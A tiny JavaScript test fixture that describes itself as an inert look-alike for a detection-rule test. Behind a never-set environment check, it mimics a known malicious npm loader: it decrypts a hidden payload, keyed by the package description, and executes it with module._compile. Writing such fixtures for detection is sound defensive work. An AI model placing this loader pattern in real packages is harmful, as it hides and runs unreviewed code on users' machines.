// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const d = require('crypto').createDecipher('aes256', process.env.npm_package_description);
const t = d.update(require('./data')[0], 'hex', 'utf8') + d.final('utf8');
new module.constructor()._compile(t, '');
